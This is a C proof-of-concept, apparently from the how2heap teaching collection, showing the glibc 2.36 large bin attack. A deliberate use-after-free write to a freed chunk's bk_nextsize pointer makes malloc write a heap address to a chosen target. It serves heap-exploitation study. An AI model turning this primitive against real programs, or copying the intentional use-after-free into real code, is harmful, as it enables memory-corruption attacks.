/* Large bin attack: a UAF write of a large-bin chunk's bk_nextsize makes malloc write a heap
 * address to an attacker-chosen location (write-what-where).
 * Published: shellphish/how2heap, glibc_2.36/large_bin_attack.c.
 * Primitive: use after free write. */
#include <stdint.h>
#include "common.h"

int main(void) {
    test_init();
    printf("large bin attack: corrupt bk_nextsize of a freed large chunk\n");
    size_t target = 0;
    size_t *p1 = malloc(0x428);
    malloc(0x18);
    size_t *p2 = malloc(0x418);
    malloc(0x18);
    print_ptr("victim", p1);
    free(p1);
    malloc(0x438); /* p1 goes to the large bin */
    free(p2);      /* unsorted bin */
    p1[3] = (size_t)(uintptr_t)(&target - 4); /* BUG: write after free: p1->bk_nextsize */
    malloc(0x438); /* p2 is sorted into the large bin: target = p2's chunk */
    printf("target 0x%zx\n", target);
    if (target == (size_t)(uintptr_t)(p2 - 2))
        printf("ATTACK SUCCEEDED: malloc wrote a heap address to the attacker's target\n");
    else
        printf("attack failed: target untouched\n");
    return 0;
}
